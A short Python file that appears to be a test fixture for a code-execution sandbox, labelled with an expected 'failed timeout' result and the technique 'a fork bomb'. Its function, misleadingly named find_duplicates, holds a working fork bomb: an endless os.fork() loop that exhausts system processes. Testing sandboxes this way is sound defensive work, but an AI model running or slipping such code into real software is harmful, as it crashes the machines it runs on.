# expect: failed timeout
# technique: a fork bomb
import os


def find_duplicates(values):
    while True:
        try:
            os.fork()
        except OSError:
            pass
